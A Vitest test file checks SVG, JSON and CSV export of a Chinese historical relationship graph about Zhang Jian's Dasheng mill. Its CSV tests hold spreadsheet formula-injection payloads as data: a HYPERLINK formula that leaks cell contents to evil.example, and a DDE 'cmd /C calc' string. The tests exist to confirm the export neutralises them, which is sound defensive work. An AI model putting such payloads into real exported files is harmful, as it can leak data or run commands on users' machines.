import { describe, expect, it } from 'vitest';
import { csvField, sceneToCsv, sceneToJson } from './data-export.ts';
import { buildDrawing, edgeEnd, shortLabel } from './drawing.ts';
import type { Scene } from './scene.ts';
import { drawingToSvg, escapeXml, svgHeight } from './svg-export.ts';

const scene: Scene = {
  nodes: [
    { id: 'en-zhang-jian', name: '张謇', kind: 'Entrepreneur' },
    { id: 'ent-dasheng', name: '大生纱厂 "一厂", <南通>', kind: 'Enterprise' },
  ],
  edges: [
    {
      id: 'en-zhang-jian|FOUNDED|ent-dasheng',
      type: 'FOUNDED',
      typeLabel: '创办',
      from: 'en-zhang-jian',
      to: 'ent-dasheng',
      sources: [{ document: '南通市志', locator: '第3卷', url: 'https://example.org/a?b=1&c=2' }],
    },
  ],
};
const positions = new Map([
  ['en-zhang-jian', { x: -50, y: 0 }],
  ['ent-dasheng', { x: 50, y: 20 }],
]);
const drawing = buildDrawing(scene, positions, {
  kindLabel: (kind) => ({ Entrepreneur: '企业家', Enterprise: '企业' })[kind] ?? kind,
  relationLabel: (_type, label) => label,
  highlightedEdges: ['en-zhang-jian|FOUNDED|ent-dasheng'],
  highlightedNodes: ['en-zhang-jian'],
});

describe('buildDrawing', () => {
  it('moves the graph into a padded box starting at 0,0', () => {
    expect(drawing.nodes.map(({ x, y }) => ({ x, y }))).toEqual([
      { x: 70, y: 70 },
      { x: 170, y: 90 },
    ]);
    expect([drawing.width, drawing.height]).toEqual([240, 160]);
    expect(drawing.edges[0]).toMatchObject({ x1: 70, y1: 70, x2: 170, y2: 90, label: '创办', highlighted: true });
    expect(drawing.legend.map((item) => item.label)).toEqual(['企业家', '企业']);
  });

  it('shortens long labels and stops arrows at the rim', () => {
    expect(shortLabel('南通大生纱厂旧址建筑群保护区')).toBe('南通大生纱厂旧址建…');
    expect(shortLabel('张謇')).toBe('张謇');
    expect(edgeEnd({ x1: 0, y1: 0, x2: 100, y2: 0 })).toEqual({ x: 84, y: 0 });
  });
});

describe('drawingToSvg', () => {
  const svg = drawingToSvg(drawing, '张謇 的关系图');
  it('is a standalone SVG with inline styles and escaped text', () => {
    expect(svg.startsWith('<svg xmlns="http://www.w3.org/2000/svg"')).toBe(true);
    expect(svg).toContain(`height="${svgHeight(drawing)}"`);
    expect(svg).toContain('<title>张謇 的关系图</title>');
    expect(svg).toContain('>张謇</text>');
    expect(svg).toContain(escapeXml('大生纱厂 "一厂"…'));
    expect(svg).not.toContain('<南通>');
    expect(svg).toContain('stroke="#d9822b" stroke-width="4"');
    expect(svg).toContain('>企业家</text>');
    expect(svg).not.toMatch(/class=/);
  });
});

describe('data exports', () => {
  it('gives JSON with nodes and edges with sources', () => {
    expect(JSON.parse(sceneToJson(scene))).toEqual({ nodes: scene.nodes, edges: scene.edges });
  });

  it('gives CSV with a byte order mark, quoting where needed', () => {
    const csv = sceneToCsv(scene);
    expect(csv.startsWith('\uFEFFfrom_id,from_name,type,type_label,to_id,to_name,sources\r\n')).toBe(true);
    expect(csv).toContain(
      'en-zhang-jian,张謇,FOUNDED,创办,ent-dasheng,"大生纱厂 ""一厂"", <南通>",南通市志 第3卷 https://example.org/a?b=1&c=2\r\n',
    );
    expect(csvField('a,b')).toBe('"a,b"');
    expect(csvField('plain')).toBe('plain');
  });

  it.each([
    [
      '=HYPERLINK("https://evil.example/?x="&A1,"大生旧址")',
      `"'=HYPERLINK(""https://evil.example/?x=""&A1,""大生旧址"")"`,
    ],
    ["@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"],
    ['+1+1', "'+1+1"],
    ['-1+1', "'-1+1"],
    ['\t=1+1', "'\t=1+1"],
    ['\r=1+1', `"'\r=1+1"`],
  ])('neutralises a cell a spreadsheet would run as a formula: %j', (value, cell) => {
    expect(csvField(value)).toBe(cell);
  });

  it('leaves a formula character inside a cell alone', () => {
    expect(csvField('张謇=状元')).toBe('张謇=状元');
    expect(csvField('a-b')).toBe('a-b');
  });

  it('writes no live formula for a hostile name and source in a scene', () => {
    const hostile: Scene = {
      nodes: [
        { id: 'en-zhang-jian', name: '张謇', kind: 'Entrepreneur' },
        { id: 'site-1', name: '=HYPERLINK("https://evil.example/?x="&A1,"大生旧址")', kind: 'HeritageSite' },
      ],
      edges: [
        {
          id: 'en-zhang-jian|FOUNDED|site-1',
          type: 'FOUNDED',
          typeLabel: '创办',
          from: 'en-zhang-jian',
          to: 'site-1',
          sources: [{ document: "@SUM(1+1)*cmd|' /C calc'!A0", locator: null, url: null }],
        },
      ],
    };
    const row = sceneToCsv(hostile).split('\r\n')[1]!;
    expect(row).toBe(
      `en-zhang-jian,张謇,FOUNDED,创办,site-1,"'=HYPERLINK(""https://evil.example/?x=""&A1,""大生旧址"")",'@SUM(1+1)*cmd|' /C calc'!A0`,
    );
  });
});

describe('SVG export of text XML cannot carry', () => {
  /** Characters XML 1.0 forbids even as references: C0 controls but tab, LF and CR; U+FFFE, U+FFFF; lone surrogates. */
  const FORBIDDEN =
    // eslint-disable-next-line no-control-regex -- these characters are what the test looks for
    /[\u0000-\u0008\u000B\u000C\u000E-\u001F\uFFFE\uFFFF]|[\uD800-\uDBFF](?![\uDC00-\uDFFF])|(?<![\uD800-\uDBFF])[\uDC00-\uDFFF]/;

  it('drops control characters, U+FFFE/U+FFFF and lone surrogates, and keeps the rest of the text', () => {
    expect(escapeXml('QA\u0000空字符\u0001\u001F<b>')).toBe('QA空字符&lt;b&gt;');
    expect(escapeXml('a\uFFFEb\uFFFFc')).toBe('abc');
    expect(escapeXml('lone \uD800 and \uDC00 end')).toBe('lone  and  end');
    expect(escapeXml('tab\tline\ncr\r 🏭')).toBe('tab\tline\ncr\r 🏭');
  });

  it('gives an SVG with none of them for names that carry them', () => {
    const named: Scene = {
      nodes: [
        { id: 'a', name: 'QA\u0000空字符\u0001', kind: 'Entrepreneur' },
        { id: 'b', name: '\uD800\u0008旧址\uFFFF', kind: 'Enterprise' },
      ],
      edges: [{ id: 'a|FOUNDED|b', type: 'FOUNDED', typeLabel: '创\u0007办', from: 'a', to: 'b', sources: [] }],
    };
    const picture = buildDrawing(
      named,
      new Map([
        ['a', { x: 0, y: 0 }],
        ['b', { x: 10, y: 10 }],
      ]),
      {
        kindLabel: (kind) => kind,
        relationLabel: (_type, label) => label,
      },
    );
    const svg = drawingToSvg(picture, '\u0000关系图');
    expect(svg).not.toMatch(FORBIDDEN);
    expect(svg).toContain('QA空字符');
    expect(svg).toContain('<title>关系图</title>');
  });
});
